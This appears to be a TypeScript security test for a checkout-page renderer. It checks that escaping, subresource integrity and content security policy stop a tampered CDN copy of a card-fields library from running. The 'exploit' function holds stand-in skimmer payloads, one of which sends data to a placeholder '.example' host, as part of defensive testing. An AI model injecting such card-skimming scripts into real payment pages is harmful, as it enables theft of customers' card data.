import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import type { Breach, Vary } from '#proof/vary'
import type { Order, Page } from './checkout-page.ts'

type Code = typeof import('./checkout-page.ts')

/** Another order each time, so that no page can be the one that a run has shown. */
function draw(vary: Vary): { order: Order; title: string; total: string } {
  const title = vary.remark()
  const [tea, pot] = [vary.number(100, 99_999), vary.number(100, 99_999)]
  const order = { id: `o-${vary.text(6)}`, currency: 'EUR', lines: [{ title, amount: tea / 100 }, { title: vary.word(), amount: pot / 100 }] }
  return { order, title, total: ((tea + pot) / 100).toFixed(2) }
}

const genuine = 'mountCardFields()'

const shop = 'https://shop.example.com'

/** A content network that serves this for every version of the library, and the shop's own server with the file that was reviewed. */
function serve(script: string) {
  const files = (address: string) => {
    if (address === `${shop}/assets/card-fields-4.2.1.min.js`) return genuine
    return address.startsWith('https://cdn.example.net/card-fields@4') ? script : undefined
  }
  globalThis.fetch = async (address) => {
    const text = files(String(address))
    return new Response(text ?? '', { status: text === undefined ? 404 : 200 })
  }
  return files
}

/** What a browser would run: it honours `integrity` and the allowed hosts of a content security policy. */
function load({ headers, html }: Page, files: (address: string) => string | undefined): string[] {
  const policy = /script-src ([^;]*)/.exec(headers['content-security-policy'] ?? '')?.[1]
  const run: string[] = []
  for (const [, attributes = ''] of html.matchAll(/<script((?:"[^"]*"|'[^']*'|[^>"'])*)><\/script>/g)) {
    const value = (name: string) => {
      const [, double, single, bare] = new RegExp(`(?:^|\\s)${name}(?:\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s"'>]+)))?(?=\\s|$)`, 'i').exec(attributes) ?? []
      return double ?? single ?? bare ?? (new RegExp(`(?:^|\\s)${name}(?=\\s|$)`, 'i').test(attributes) ? '' : undefined)
    }
    const { href, origin } = new URL(value('src') ?? '', `${shop}/orders/o-17`)
    const script = files(href)
    if (script === undefined) continue
    if (policy && !policy.split(' ').includes(origin === shop ? "'self'" : origin)) continue
    const integrity = value('integrity')
    const digest = `sha384-${createHash('sha384').update(script).digest('base64')}`
    if (integrity !== undefined && (!integrity.split(/\s+/).includes(digest) || (origin !== shop && value('crossorigin') === undefined))) {
      // What the page does when the digest is another one.
      const instead = /https:\/\/cdn\.example\.net\/[^'"`\s)]+/.exec(value('onerror') ?? '')?.[0]
      const other = instead === undefined ? undefined : files(instead)
      if (other !== undefined) run.push(other)
      continue
    }
    run.push(script)
  }
  return run
}

/** A text on the page, as the browser shows it. */
const shown = ({ html }: Page) =>
  html.replace(/<[^>]*>/g, ' ').replace(/&(lt|gt|quot|amp|#39|#x27);/g, (one) => ({ '&lt;': '<', '&gt;': '>', '&quot;': '"', '&amp;': '&' })[one] ?? "'").replaceAll(',', '')

export async function works({ renderCheckout }: Code, vary: Vary) {
  const files = serve(genuine)
  const { order, title, total } = draw(vary)
  const page = await renderCheckout(order)
  assert.ok(shown(page).includes(title.replaceAll(',', '')), `The title of a product, ${title}, should be on the page with its signs escaped.`)
  assert.ok(shown(page).includes(total), `The sum, ${total}, should be on the page.`)
  assert.ok(page.html.includes(`/orders/${order.id}/payment`), 'The form should pay the order that is shown.')
  assert.deepEqual(load(page, files), [genuine], 'The browser should run the library that the shop has chosen.')
}

/** The file on the content network was replaced by one that also sends card numbers away. */
export async function exploit({ renderCheckout }: Code, vary: Vary): Promise<Breach | false> {
  for (const hostile of vary.shuffle([`${genuine};addEventListener('input', ${vary.word()})`, `copyTo('https://${vary.word()}.example');${genuine}`])) {
    const files = serve(hostile)
    if (load(await renderCheckout(draw(vary).order), files).includes(hostile))
      return { sent: `another file on the content network: ${hostile}`, got: 'the browser runs it on the page on which people type their card numbers' }
  }
  return false
}
